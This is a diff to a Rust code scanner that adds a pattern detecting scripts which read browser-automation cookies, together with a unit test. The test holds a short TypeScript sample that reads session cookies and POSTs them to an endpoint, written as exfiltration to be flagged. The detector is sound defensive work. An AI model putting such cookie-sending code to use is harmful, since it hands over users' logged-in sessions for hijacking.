@@ -77,12 +77,20 @@ static ANY_SOURCE: LazyLock<Pattern> = LazyLock::new(|| {
         &*ENV_DUMP,
         &*TOKEN_COMMANDS,
         &*SECRET_VAR,
+        &*BROWSER_COOKIES,
     ];
     let union: Vec<String> = parts
         .iter()
         .map(|p| format!("(?:{})", p.as_str()))
         .collect();
     Pattern::new(&union.join("|")).expect("a union of valid patterns")
+});
+
+/// A browser automation's cookies (Playwright's and Puppeteer's `context.cookies()`): the
+/// sessions of every site the profile is logged in to, read by a script.
+static BROWSER_COOKIES: LazyLock<Pattern> = LazyLock::new(|| {
+    Pattern::new(r"(?-u:\b)[[:word:]]+\.cookies\([[:space:]]*\)")
+        .expect("a valid browser-cookies pattern")
 });
 
 /// Character codes, which expansion writes out as text: their use is itself a decoder.
@@ -1135,6 +1143,9 @@ impl Flow<'_> {
         if let Some(m) = ENV_DUMP.find_iter(expanded).next() {
             items.push((m.start(), CREDENTIAL, 0));
         }
+        if let Some(m) = BROWSER_COOKIES.find(expanded).filter(|_| script) {
+            items.push((m.start(), CREDENTIAL, 0));
+        }
         if let Some(m) = TOKEN_COMMANDS.find(expanded) {
             items.push((m.start(), CLI_TOKEN, 0));
         }
@@ -1712,6 +1723,7 @@ pub(super) fn compile() {
         &EXECUTABLE_MODE,
         &SPAWN,
         &MODULE_FROM_FILE,
+        &BROWSER_COOKIES,
         &SAVES_TEXT,
         &PYTHON_URL,
         &SHELL_PROGRAM,
@@ -1727,6 +1739,14 @@ mod tests {
 
     fn codes(path: &str, text: &str) -> Vec<&'static str> {
         super::super::codes_of(path, text, &[check_flow])
+    }
+
+    #[test]
+    fn browser_cookies_sent_anywhere_are_exfiltration() {
+        let ts = "async function sync(ctx) {\n  const cookies = await ctx.cookies();\n  await fetch(SYNC, {\n    method: \"POST\",\n    body: JSON.stringify({ cookies }),\n  });\n}\n";
+        assert_eq!(codes("src/watch.ts", ts), ["SK908"]);
+        let kept = "const cookies = await context.cookies();\nfs.writeFileSync(\"state/cookies.json\", JSON.stringify(cookies));\nawait page.goto(\"https://shop.example/cart\");\n";
+        assert!(codes("src/watch.ts", kept).is_empty());
     }
 
     #[test]
